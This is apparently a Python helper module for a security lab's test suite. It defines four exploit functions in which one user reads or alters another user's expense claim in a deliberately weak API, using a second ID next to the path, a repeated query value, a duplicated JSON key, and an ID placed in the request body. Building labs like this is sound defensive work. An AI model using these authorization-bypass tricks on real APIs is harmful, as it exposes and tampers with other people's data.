"""How each weakness of the newer parts of API1 is used; tests/lab/test_weaknesses.py takes them from here."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

CLAIM = {"title": "New glasses", "amount": 24900, "note": "Secret bill"}


def made(visitor: Any, path: str, body: dict[str, Any], account: str = "alice") -> Any:
    answer = visitor.send("POST", path, account, body=body)
    assert answer.status == 201, answer.content
    return answer.json


def two_claims(visitor: Any) -> tuple[int, int]:
    """Alice's and bob's."""
    return made(visitor, "/claims", CLAIM)["id"], made(visitor, "/claims", {**CLAIM, "note": ""}, "bob")["id"]


def claim_beside_path(visitor: Any) -> bool:
    hers, his = two_claims(visitor)
    return b"Secret bill" in visitor.send("GET", f"/claims/{his}", "bob", query={"claim_id": hers}).content


def claim_receipt(visitor: Any) -> bool:
    hers, his = two_claims(visitor)
    return b"Secret bill" in visitor.send("GET", "/claims/receipt", "bob", query={"claim_id": [his, hers]}).content


def claim_status(visitor: Any) -> bool:
    hers, his = two_claims(visitor)
    doubled = f'{{"claim_id":{his},"claim_id":{hers}}}'.encode()
    return b"Secret bill" in visitor.send("POST", "/claims/status", "bob", body=doubled).content


def claim_change(visitor: Any) -> bool:
    hers, his = two_claims(visitor)
    visitor.send("PUT", f"/claims/{his}", "bob", body={**CLAIM, "id": hers, "note": "Bob was here"})
    return visitor.send("GET", f"/claims/{hers}", "alice").json["note"] == "Bob was here"


EXPLOITS: dict[str, Callable[[Any], bool]] = {
    "claim-read-beside-path": claim_beside_path,
    "claim-receipt-by-last-value": claim_receipt,
    "claim-status-by-doubled-key": claim_status,
    "claim-change-by-id-in-body": claim_change,
}
